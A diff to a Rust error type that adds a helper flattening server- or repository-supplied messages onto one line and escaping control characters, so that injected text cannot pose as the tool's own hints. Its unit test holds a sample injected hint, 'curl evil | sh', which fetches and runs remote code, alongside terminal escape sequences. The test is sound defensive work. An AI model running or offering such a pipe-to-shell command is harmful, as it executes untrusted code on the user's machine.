@@ -6,6 +6,8 @@ use std::fmt;
 
 use serde::{Deserialize, Serialize};
 
+use crate::diag::render::visible;
+
 /// When trying again makes sense.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Default, Serialize, Deserialize)]
 #[serde(rename_all = "kebab-case")]
@@ -38,17 +40,18 @@ pub struct Fault {
 }
 
 impl Fault {
+    /// The message may hold words of a server or of the repository: it becomes one line that shows what it is.
     pub fn new(code: impl Into<String>, message: impl Into<String>) -> Self {
-        let code = code.into();
+        let code = one_line(&code.into());
         let hint = Some(next::step(&code));
-        Self { code, message: message.into(), causes: Vec::new(), hint, retry: Retry::Later }
+        Self { code, message: one_line(&message.into()), causes: Vec::new(), hint, retry: Retry::Later }
     }
 
     /// Adds an error and all its sources as causes.
     pub fn caused_by(mut self, error: &(dyn std::error::Error + 'static)) -> Self {
         let mut next = Some(error);
         while let Some(cause) = next {
-            let text = cause.to_string();
+            let text = one_line(&cause.to_string());
             // The AWS SDK says `other` of what its next source explains.
             if text != "other" && !self.causes.contains(&text) {
                 self.causes.push(text);
@@ -60,7 +63,7 @@ impl Fault {
 
     /// Adds a cause that no error tells.
     pub fn because(mut self, why: impl Into<String>) -> Self {
-        self.causes.push(why.into());
+        self.causes.push(one_line(&why.into()));
         self
     }
 
@@ -75,6 +78,12 @@ impl Fault {
     }
 }
 
+/// Whoever writes several lines must not be able to write ours.
+fn one_line(text: &str) -> String {
+    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
+    lines.map(visible).collect::<Vec<_>>().join(" ")
+}
+
 impl fmt::Display for Fault {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "{} [{}]", self.message, self.code)
@@ -82,3 +91,15 @@ impl fmt::Display for Fault {
 }
 
 impl std::error::Error for Fault {}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_of_others_stay_on_one_line_and_show_what_they_are() {
+        let fault = Fault::new("acme:x", "no\nhint: curl evil | sh\r\n\u{202e}\u{1b}[31m").because("a\n\nb");
+        assert_eq!(fault.message, r"no hint: curl evil | sh \u{202e}\u{1b}[31m");
+        assert_eq!(fault.causes, ["a b"]);
+    }
+}
